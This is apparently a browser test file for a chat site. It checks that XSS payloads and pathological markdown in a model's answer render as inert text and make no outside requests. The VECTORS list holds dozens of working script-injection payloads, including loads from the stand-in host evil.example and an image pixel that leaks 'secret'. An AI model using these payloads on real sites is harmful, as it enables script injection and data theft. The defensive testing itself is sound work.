/** What a model is talked into writing: nothing of it runs, and no answer takes the page or its conversation away. */
import { expect, test } from 'vitest';
import { say, soon, useSite } from './site.ts';

const site = useSite();
const answers = '.answer:not(.streaming)';

/** Each would set `hacked` or ask evil.example for something, if any of it became more than text. */
const RUN = 'window.hacked=1';
const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<svg><script>${RUN}</script></svg>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src="x" onerror="${RUN}" <b`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">a</math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>`,
  `<link rel=stylesheet href=//evil.example/z.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><button formaction="javascript:${RUN}">a</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x onclick=${RUN}>`,
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](java&#x73;cript:${RUN})`,
  `[a](java\tscript:${RUN})`,
  `[a](\u0001javascript:${RUN})`,
  `[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `[a](vbscript:msgbox)`,
  `[a](//evil.example)`,
  `![a](x" onerror="${RUN})`,
  `![a](https://evil.example/pixel.png?words=secret)`,
  `<javascript:${RUN}>`,
  `<https://a.example/"onmouseover="${RUN}>`,
  `[a](https://a.example/ "x" onclick="${RUN}")`,
  `[r]: javascript:${RUN}\n\n[r]`,
  `\`\`\`"><img/src=x/onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `| <img src=x onerror=${RUN}> |\n|---|\n| [a](javascript:${RUN}) |`,
  `# <svg onload=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<a href="https://a.example" style="position:fixed;inset:0">a</a>`,
];
const HARMLESS = new Set(
  'p a br code pre em strong figure figcaption span section table thead tbody tr th td button svg path h3'.split(' '),
);

test('nothing in them becomes an element, a handler or a call elsewhere', async () => {
  const page = await site.visit();
  const elsewhere: string[] = [];
  page.on('request', (request) => request.url().startsWith(site.url) || elsewhere.push(request.url()));
  site.model.says(VECTORS.join('\n\n'));
  await say(page, 'Attack me');
  await page.locator(answers).waitFor();
  const root = page.locator('.answer .markdown');
  const found = await root.evaluate((markdown) =>
    [...markdown.querySelectorAll('*')].map((element) => ({
      name: element.localName,
      attributes: element.getAttributeNames(),
      address: element.getAttribute('href') ?? '',
    })),
  );
  expect([...new Set(found.map(({ name }) => name))].filter((name) => !HARMLESS.has(name))).toEqual([]);
  const drawn = found.filter(({ name }) => name !== 'svg' && name !== 'path');
  expect(drawn.flatMap(({ attributes }) => attributes).filter((name) => /^on|^style$|^src/.test(name))).toEqual([]);
  const addresses = found.map(({ address }) => address).filter(Boolean);
  expect(addresses.filter((address) => !/^https:\/\/(a|evil)\.example\//.test(address))).toEqual([]);
  expect(addresses.length).toBeGreaterThan(0);
  await page.reload();
  await page.locator(answers).waitFor();
  await soon(() => page.evaluate("'hacked' in window")).toBe(false);
  expect(elsewhere).toEqual([]);
});

const wide = `|${'a|'.repeat(1_300)}\n|${'-|'.repeat(1_300)}\n${'|1\n'.repeat(1_300)}`;
const nested = Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- item\n`).join('');
const HOSTILE: [name: string, text: string][] = [
  ['quotes in quotes', '>'.repeat(3_000)],
  ['quotes in lists', '- > '.repeat(10_000)],
  ['lists in lists', nested],
  ['a wide table', wide],
  ['many tables', '|a|\n|-|\n|b|\n\n'.repeat(2_500)],
  ['brackets', '['.repeat(40_000)],
  ['marks', '*a_ '.repeat(10_000)],
  ['underlines', 'a\n===\n'.repeat(7_000)],
  ['half mail addresses', `${'a.'.repeat(90_000)}@`],
  ['lazy quotes', '> a\nb\n'.repeat(30_000)],
  ['one long fence', `\`\`\`ts\n${'const a = `${'.repeat(4_000)}`],
];

test.each(HOSTILE)('%s leave the conversation and its field usable, also after a reload', async (name, text) => {
  const page = await site.visit();
  site.model.says(text);
  await say(page, name);
  await page.locator(answers).waitFor({ timeout: 20_000 });
  await page.reload();
  await page.locator(answers).waitFor({ timeout: 20_000 });
  site.model.says('Still here.');
  await say(page, 'Are you there?');
  await page.locator(answers, { hasText: 'Still here.' }).waitFor({ timeout: 20_000 });
});
